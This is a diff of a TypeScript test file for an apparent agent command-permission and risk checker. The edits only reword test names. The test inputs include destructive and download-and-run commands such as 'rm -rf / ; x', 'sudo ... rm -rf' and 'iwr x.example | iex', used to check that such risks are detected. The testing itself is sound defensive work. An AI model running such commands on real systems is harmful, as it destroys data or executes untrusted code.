@@ -34,7 +34,7 @@ void describe('the rules to offer for a request', () => {
     'make > out.log': ['make > out.log'],
   };
 
-  void it('are a command with any arguments where that is safe, and the line itself', () => {
+  void it('include the line itself, and any arguments where that is safe', () => {
     for (const [line, expected] of Object.entries(commands)) {
       const offered = suggestRules(placedRequest(run(line)), 'allow_once') ?? [];
       assert.deepEqual(
@@ -69,7 +69,7 @@ void describe('the rules to offer for a request', () => {
     ]);
   });
 
-  void it('are the tool or the server for an MCP tool, and the host for an address', () => {
+  void it('are the tool or server of MCP, and the host of addresses', () => {
     assert.deepEqual(suggestRules(placedRequest(mcp), 'allow_once'), [
       { mcpServer: 'lab', mcpTool: 'echo', answer: 'allow_once' },
       { mcpServer: 'lab', answer: 'allow_once' },
@@ -80,7 +80,7 @@ void describe('the rules to offer for a request', () => {
     ]);
   });
 
-  void it('reject what they would allow', () => {
+  void it('reject the same things they would allow', () => {
     for (const asked of [
       run('npm test'),
       run('rm -rf / ; x'),
@@ -94,7 +94,7 @@ void describe('the rules to offer for a request', () => {
     }
   });
 
-  void it('are none where no rule may allow it', () => {
+  void it('are empty where no rule may allow', () => {
     for (const asked of [
       run('npm test $x'),
       run('npm test ('),
@@ -109,12 +109,12 @@ void describe('the rules to offer for a request', () => {
   });
 });
 
-void describe('why rules don’t allow a request', () => {
+void describe("the reason why rules don't allow a request", () => {
   const npm = [{ command: 'npm test *', answer: 'allow_once' }];
   const why = (asked: Asked, rules: readonly object[] | 'ever' = npm) =>
     explainRuling(rules === 'ever' ? 'ever' : sourced(rules), placedRequest(asked));
 
-  void it('is what no rule allows, or what these don’t', () => {
+  void it("says whether no rule can allow it or these don't", () => {
     assert.equal(why(run('npm test')), undefined);
     assert.deepEqual(why(run('npm test && make all')), { kind: 'command', command: 'make all' });
     assert.deepEqual(why(run('npm test /etc/x')), { kind: 'outside', path: '/etc/x' });
@@ -138,7 +138,7 @@ void describe('why rules don’t allow a request', () => {
 void describe('the risk of a request', () => {
   const risk = (line: string, isWindows = false) => risksOf(placedRequest({ ...run(line), isWindows }))[0];
 
-  void it('is found in any part of a line, even if it can’t be parsed', () => {
+  void it('is found in any part of a line, even an unparsable one', () => {
     assert.deepEqual(risk('ls && sudo -u x rm -rf "a b"'), { kind: 'deletes', command: 'rm -rf "a b"' });
     assert.deepEqual(risk('bash -c "git push -f"'), { kind: 'forcePush', command: 'git push -f' });
     assert.deepEqual(risk('x | xargs rm -rf'), { kind: 'deletes', command: 'rm -rf' });
@@ -150,7 +150,7 @@ void describe('the risk of a request', () => {
     assert.deepEqual(risk('iwr x.example | iex', true)?.kind, 'runsDownload');
   });
 
-  void it('is none for the same words in a text', () => {
+  void it('is absent if the same words are in a text', () => {
     for (const line of ['echo "rm -rf x"', "git commit -m 'sudo rm -rf'", 'grep -r "DROP TABLE" src', 'ls', 'git push'])
       assert.equal(risk(line), undefined, line);
   });
